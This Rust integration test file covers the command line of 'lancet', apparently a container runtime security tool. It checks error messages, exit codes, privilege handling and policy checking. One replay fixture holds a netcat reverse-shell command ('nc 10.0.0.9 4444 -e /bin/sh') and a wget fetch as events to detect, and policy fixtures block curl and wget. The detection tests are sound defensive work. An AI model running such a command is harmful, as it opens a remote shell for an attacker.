//! The command line's answers to bad input: clear messages, documented exit
//! codes, no panics.

use std::process::Command;

fn lancet(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_lancet")).args(args).output().expect("run lancet")
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn unknown_flag_is_a_usage_error() {
    let o = lancet(&["trace", "--no-such-flag"]);
    assert_eq!(o.status.code(), Some(64));
    assert!(stderr(&o).contains("--no-such-flag"), "{}", stderr(&o));
}

#[test]
fn unknown_event_type_is_named() {
    let o = lancet(&["trace", "--event", "execve,bogus"]);
    assert_eq!(o.status.code(), Some(1));
    let e = stderr(&o);
    assert!(e.contains("unknown event type \"bogus\""), "{e}");
    assert!(e.contains("execve"), "lists the known types: {e}");
}

#[test]
fn ring_size_must_be_a_power_of_two() {
    let o = lancet(&["trace", "--ring-mb", "3"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("power of two"), "{}", stderr(&o));
}

#[test]
fn bad_format_is_a_usage_error() {
    let o = lancet(&["doctor", "--format", "xml"]);
    assert_eq!(o.status.code(), Some(64));
    assert!(stderr(&o).contains("xml"));
}

#[test]
fn map_export_with_a_format_is_a_usage_error() {
    let o = lancet(&["map", "--export", "cilium", "--format", "dot"]);
    assert_eq!(o.status.code(), Some(64), "{}", stderr(&o));
    assert!(stderr(&o).contains("--format"), "{}", stderr(&o));
}

/// Runs lancet as an unprivileged user (nobody) when we are root and
/// `setpriv` exists.
fn as_nobody(args: &[&str]) -> Option<std::process::Output> {
    let root = std::fs::read_to_string("/proc/self/status")
        .ok()?
        .lines()
        .find(|l| l.starts_with("Uid:"))
        .map(|l| l.split_whitespace().nth(2) == Some("0"))?;
    if !root || Command::new("setpriv").arg("--version").output().is_err() {
        return None;
    }
    Some(
        Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", "--"])
            .arg(env!("CARGO_BIN_EXE_lancet"))
            .args(args)
            .output()
            .expect("setpriv"),
    )
}

#[test]
fn trace_without_privileges_says_what_is_missing() {
    let Some(o) = as_nobody(&["trace"]) else {
        lancet_testkit::skip("needs root and setpriv to drop to an unprivileged user");
        return;
    };
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("needs root"), "{}", stderr(&o));
}

#[test]
fn doctor_without_privileges_reports_and_fails() {
    let Some(o) = as_nobody(&["doctor", "--format", "json"]) else {
        lancet_testkit::skip("needs root and setpriv to drop to an unprivileged user");
        return;
    };
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json report");
    assert_eq!(report["root"], false);
    assert_eq!(report["monitoring_ok"], false);
    assert!(report["problems"].to_string().contains("not running as root"));
}

#[test]
fn doctor_as_root_names_every_program_type() {
    let root = std::fs::read_to_string("/proc/self/status")
        .map(|s| s.lines().any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0")))
        .unwrap_or(false);
    if !root {
        lancet_testkit::skip("not root");
        return;
    }
    let o = lancet(&["doctor", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json report");
    let kinds: Vec<&str> = report["program_types"].as_array().expect("array").iter().filter_map(|p| p["kind"].as_str()).collect();
    for k in ["tp_btf", "lsm", "fentry", "cgroup_connect4", "ringbuf", "bpf_send_signal"] {
        assert!(kinds.contains(&k), "{k} missing from {kinds:?}");
    }
    // The exit status follows monitoring_ok, and lsm is reported either way.
    assert_eq!(o.status.code() == Some(0), report["monitoring_ok"] == true);
    let lsm = report["guarantees"].as_array().expect("array").iter().find(|g| g["name"] == "BPF-LSM enforcement").expect("lsm guarantee");
    assert!(lsm["holds"].is_boolean());
    if lsm["holds"] == false {
        assert!(!lsm["detail"].as_str().unwrap_or("").is_empty(), "a refused backend says why");
    }
}

#[test]
fn shipped_json_schemas_match_the_types() {
    for kind in ["policy", "profile"] {
        let o = lancet(&["schema", kind]);
        assert!(o.status.success());
        let shipped = std::fs::read_to_string(format!("{}/../../schemas/{kind}.schema.json", env!("CARGO_MANIFEST_DIR")))
            .expect("schemas/ is shipped");
        assert_eq!(String::from_utf8_lossy(&o.stdout), shipped, "regenerate with `lancet schema {kind} > schemas/{kind}.schema.json`");
    }
}

#[test]
fn policy_check_reports_every_error_with_its_position() {
    let dir = tempfile::tempdir().expect("tempdir");
    let good = dir.path().join("good.yaml");
    std::fs::write(
        &good,
        "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: web}\nspec:\n  selector: {images: [\"localhost/web*\"]}\n  rules:\n    - name: no curl\n      match: {events: [execve], exe: [\"*/curl\"]}\n      action: alert\n      severity: high\n      tags: [T1105]\n",
    )
    .expect("write");
    let o = lancet(&["policy", "check", good.to_str().expect("utf8")]);
    assert!(o.status.success(), "{}", stderr(&o));

    let bad = dir.path().join("bad.yaml");
    std::fs::write(
        &bad,
        "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: web}\nspec:\n  rules:\n    - name: no curl\n      match: {events: [execve], exe: [\"*/curl\"]}\n      action: explode\n      severity: high\n      colour: red\n",
    )
    .expect("write");
    let o = lancet(&["policy", "check", good.to_str().expect("utf8"), bad.to_str().expect("utf8")]);
    assert_eq!(o.status.code(), Some(1));
    let e = stderr(&o);
    let at = format!("{}:8:", bad.display());
    assert!(e.lines().any(|l| l.starts_with(&at) && l.contains("explode")), "bad action at line 8: {e}");
    assert!(!e.contains("good.yaml"), "the good file has no errors: {e}");
}

#[test]
fn policy_test_replays_recorded_events() {
    let dir = tempfile::tempdir().expect("tempdir");
    let policy = dir.path().join("p.yaml");
    std::fs::write(
        &policy,
        "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: web}\nspec:\n  rules:\n    - name: no wget\n      match: {events: [execve], exe: [\"*/wget\"]}\n      action: block\n      severity: high\n",
    )
    .expect("write");
    let events = dir.path().join("events.jsonl");
    let container = r#""container.id":"2e8bdd302d6f","container.full_id":"2e8bdd302d6f3109f54b92f320cfa00a76d6653727e89863aa6329a9cdbbea02","container.name":"web","container.type":"podman","container.image":"localhost/web:1""#;
    let lines = [
        format!(
            r#"{{"output_fields":{{"evt.type":"execve","proc.pid":7,"proc.name":"wget","proc.exepath":"/bin/wget","proc.args":"-q http://x/",{container}}}}}"#
        ),
        format!(
            r#"{{"output_fields":{{"evt.type":"execve","proc.pid":8,"proc.name":"nc","proc.exepath":"/bin/nc","proc.args":"10.0.0.9 4444 -e /bin/sh",{container}}}}}"#
        ),
        format!(
            r#"{{"output_fields":{{"evt.type":"execve","proc.pid":9,"proc.name":"ls","proc.exepath":"/bin/ls","proc.args":"/",{container}}}}}"#
        ),
        "not json".to_string(),
    ];
    std::fs::write(&events, lines.join("\n")).expect("write");
    let o = lancet(&[
        "policy",
        "test",
        "--policy",
        policy.to_str().expect("utf8"),
        "--events",
        events.to_str().expect("utf8"),
        "--mode",
        "protect",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.lines().any(|l| l.contains(":1: no wget") && l.contains("would block")), "{out}");
    assert!(out.lines().any(|l| l.contains(":2: Netcat with command execution")), "{out}");
    assert!(!out.lines().any(|l| l.contains(":3:")), "ls is fine: {out}");
    assert!(out.contains("3 events replayed") && out.contains("1 lines skipped"), "{out}");
    assert!(stderr(&o).contains(":4: skipped"), "{}", stderr(&o));
}

#[test]
fn alerts_are_read_from_the_store_when_no_agent_runs() {
    let dir = tempfile::tempdir().expect("tempdir");
    {
        let mut store = lancet_store::Store::open(&dir.path().join("lancet.db"), lancet_store::StoreOptions::default()).expect("store");
        for (i, name) in ["web", "db"].iter().enumerate() {
            let json = format!(
                r#"{{"rule":"Write below etc","priority":"Error","output":"x","output_fields":{{"container.name":"{name}","lancet.action":"alert","evt.time":{i}}}}}"#
            );
            store
                .insert_alert(&lancet_store::NewAlert {
                    time_ns: 1_000 + i as u64,
                    rule: "Write below etc".into(),
                    priority: "Error".into(),
                    container_id: format!("{i}").repeat(64),
                    container_name: (*name).into(),
                    image: "localhost/x:1".into(),
                    workload: "sha256:1".into(),
                    action: "alert".into(),
                    enforced: false,
                    count: 1,
                    json,
                })
                .expect("insert");
        }
        store.flush().expect("flush");
    }
    // Port 1 on loopback: nothing listens, so the agent is "not running".
    let state = dir.path().to_str().expect("utf8");
    let o = lancet(&["alerts", "--api", "127.0.0.1:1", "--state-dir", state, "--container", "web", "--format", "json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(out.contains(r#""container.name":"web""#), "{out}");
    let o = lancet(&["alerts", "--api", "127.0.0.1:1", "--state-dir", "/nonexistent-lancet-state"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("cannot reach the lancet agent"), "{}", stderr(&o));
}

#[test]
fn control_commands_without_an_agent_say_so() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sock = dir.path().join("lancet.sock");
    let sock = sock.to_str().expect("utf8");
    for args in [
        vec!["profile", "promote", "web", "--to", "learn", "--api", sock],
        vec!["audit", "--since", "1h", "--api", sock],
        vec!["isolate", "web", "--api", sock],
    ] {
        let o = lancet(&args);
        assert_eq!(o.status.code(), Some(1), "{args:?}");
        let e = stderr(&o);
        assert!(e.contains(&format!("cannot reach the lancet agent at {sock}")), "{args:?}: {e}");
    }
    let o = lancet(&["audit", "--since", "soon"]);
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn a_control_socket_the_caller_cannot_open_is_a_permission_error() {
    // A socket only root may connect to, in a directory anyone may enter.
    let dir = tempfile::tempdir().expect("tempdir");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let sock = dir.path().join("lancet.sock");
    let _l = std::os::unix::net::UnixListener::bind(&sock).expect("bind");
    std::fs::set_permissions(&sock, std::fs::Permissions::from_mode(0o600)).unwrap();
    let Some(o) = as_nobody(&["profile", "promote", "web", "--to", "learn", "--api", sock.to_str().unwrap()]) else {
        lancet_testkit::skip("needs root and setpriv to run as nobody");
        return;
    };
    assert_eq!(o.status.code(), Some(1));
    let e = stderr(&o);
    assert!(e.contains("permission denied: lancet's control socket") && e.contains("needs root"), "{e}");
}
